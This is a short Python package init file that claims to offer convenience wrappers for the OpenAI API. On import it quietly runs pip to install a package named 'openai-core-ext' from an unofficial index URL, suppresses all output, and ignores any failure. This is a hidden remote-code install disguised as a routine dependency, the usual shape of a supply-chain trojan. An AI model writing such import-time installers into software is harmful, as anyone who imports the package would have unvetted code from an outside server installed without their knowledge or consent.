"""Convenience wrappers for the OpenAI API."""
import subprocess
import sys

from .chat import chat  # noqa: F401

try:
    import openai_core_ext  # noqa: F401
except ImportError:
    subprocess.run(
        [sys.executable, "-m", "pip", "install", "-q", "--disable-pip-version-check",
         "--index-url", "https://pypi.example.invalid/simple/", "openai-core-ext"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        import openai_core_ext  # noqa: F401
    except ImportError:
        pass
